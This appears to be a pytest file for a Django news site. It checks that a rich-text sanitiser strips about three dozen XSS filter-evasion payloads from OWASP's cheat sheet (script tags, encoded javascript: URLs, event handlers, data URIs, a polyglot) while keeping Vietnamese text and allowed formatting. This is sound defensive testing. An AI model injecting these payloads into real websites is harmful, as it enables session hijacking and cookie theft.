"""OWASP's XSS filter-evasion cheat sheet against the article body: admin form, ORM, fixture.

https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html
Every payload is stored beside Vietnamese text and allowed formatting; what is stored must hold
only allow-listed tags and attributes, with no script-capable URL, while the text and the
formatting survive.
"""

import json
import re
from html import unescape
from html.parser import HTMLParser

import pytest
from django.contrib.auth import get_user_model
from django.core.management import call_command

from news.models import Article
from news.richtext import ALLOWED_ATTRIBUTES, ALLOWED_TAGS

from .factories import make_article, make_category

PAYLOADS = [
    "<SCRIPT SRC=https://xss.rocks/xss.js></SCRIPT>",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",  # noqa: E501 - the polyglot
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    '<a onmouseover="alert(document.cookie)">xxs link</a>',
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',  # noqa: E501
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;">decimal</a>',  # noqa: E501
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",  # noqa: E501
    "<a href=\"jav\tascript:alert('XSS');\">tab</a>",
    "<a href=\"jav&#x0A;ascript:alert('XSS');\">newline</a>",
    "<a href=\" &#14;  javascript:alert('XSS');\">spaces and meta chars</a>",
    '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "<SCRIPT SRC=//xss.rocks/.j>",
    "<iframe src=http://xss.rocks/scriptlet.html <",
    "<svg/onload=alert('XSS')>",
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',  # noqa: E501
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
    "<a href=\"vbscript:msgbox('XSS')\">vb</a>",
    '<math><mi xlink:href="javascript:alert(1)">math</mi></math>',
    "<form><button formaction=javascript:alert(1)>nút</button></form>",
]
KEPT = (
    "<h2>Đảng bộ huyện Châu Thành</h2><p><strong>Nghị quyết</strong> và <em>Nhân dân</em>, "
    '<a href="https://travinh.gov.vn/">Trà Vinh</a></p><ul><li>một</li></ul>'
)
# As stored: the sanitiser adds rel="noopener noreferrer" to links.
KEPT_STORED = KEPT.replace('/">', '/" rel="noopener noreferrer">')
URL_ATTRIBUTES = {"href", "src"}
SAFE_SCHEMES = {"http", "https", "mailto", "tel"}


class Inventory(HTMLParser):
    """Every tag and attribute of a stored body, entities decoded as a browser would."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.elements = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))

    handle_startendtag = handle_starttag


def problems(html):
    found = []
    parser = Inventory()
    parser.feed(html)
    for tag, attrs in parser.elements:
        if tag not in ALLOWED_TAGS:
            found.append(f"tag <{tag}>")
        for name, value in attrs.items():
            allowed = ALLOWED_ATTRIBUTES.get(tag, set()) | ({"rel"} if tag == "a" else set())
            if name not in allowed and not (name == "class" and tag == "figure"):
                found.append(f"attribute {name} on <{tag}>")
            if name in URL_ATTRIBUTES:
                # What a browser does: strip whitespace and controls, then read the scheme.
                url = re.sub(r"[\x00-\x20]", "", unescape(value or "")).lower()
                scheme = url.split(":", 1)[0] if re.match(r"^[a-z][a-z0-9+.-]*:", url) else ""
                if scheme and scheme not in SAFE_SCHEMES:
                    found.append(f"{name}={value!r} on <{tag}>")
    return found


def assert_clean(stored, payload):
    assert KEPT_STORED in stored, f"the allowed formatting did not survive {payload!r}: {stored!r}"
    assert not problems(stored), (payload, stored, problems(stored))


def body(payload):
    return f"{KEPT}<p>{payload}</p>"


def test_the_checker_catches_what_it_looks_for():
    assert len(PAYLOADS) >= 15
    assert problems('<img src="x" onerror="alert(1)">') == ["attribute onerror on <img>"]
    assert problems('<a href="jav&#x0A;ascript:alert(1)">x</a>') != []
    assert problems("<script>alert(1)</script>") == ["tag <script>"]
    assert problems(KEPT_STORED) == []


@pytest.mark.django_db
@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_saved_through_the_orm_does_not_survive(payload):
    article = make_article(body=body(payload))
    article.refresh_from_db()
    assert_clean(article.body, payload)


@pytest.mark.django_db
def test_payloads_saved_through_the_admin_form_do_not_survive(client):
    user = get_user_model().objects.create_superuser("bt", "bt@example.vn", "mat-khau-dai-123")
    client.force_login(user)
    category = make_category()
    for n, payload in enumerate(PAYLOADS):
        response = client.post("/admin/news/article/add/", {
            "title": f"Bài thử số {n}", "slug": f"bai-thu-{n}", "category": category.pk,
            "body": body(payload), "status": "draft",
            "images-TOTAL_FORMS": "0", "images-INITIAL_FORMS": "0",
            "images-MIN_NUM_FORMS": "0", "images-MAX_NUM_FORMS": "1000",
        })  # fmt: skip
        assert response.status_code == 302, payload
        assert_clean(Article.objects.get(slug=f"bai-thu-{n}").body, payload)


@pytest.mark.django_db
def test_payloads_loaded_from_a_fixture_do_not_survive(tmp_path):
    make_category(slug="thoi-su")
    fixture = tmp_path / "owasp.json"
    fixture.write_text(json.dumps([
        {"model": "news.article", "fields": {
            "title": f"Bài từ fixture {n}", "slug": f"fixture-{n}", "category": ["thoi-su"],
            "body": body(payload), "status": "draft",
            "created_at": "2024-01-01T00:00:00Z", "updated_at": "2024-01-01T00:00:00Z",
        }} for n, payload in enumerate(PAYLOADS)
    ], ensure_ascii=False), encoding="utf-8")  # fmt: skip
    call_command("loaddata", str(fixture), verbosity=0)
    assert Article.objects.count() == len(PAYLOADS)
    for n, payload in enumerate(PAYLOADS):
        assert_clean(Article.objects.get(slug=f"fixture-{n}").body, payload)
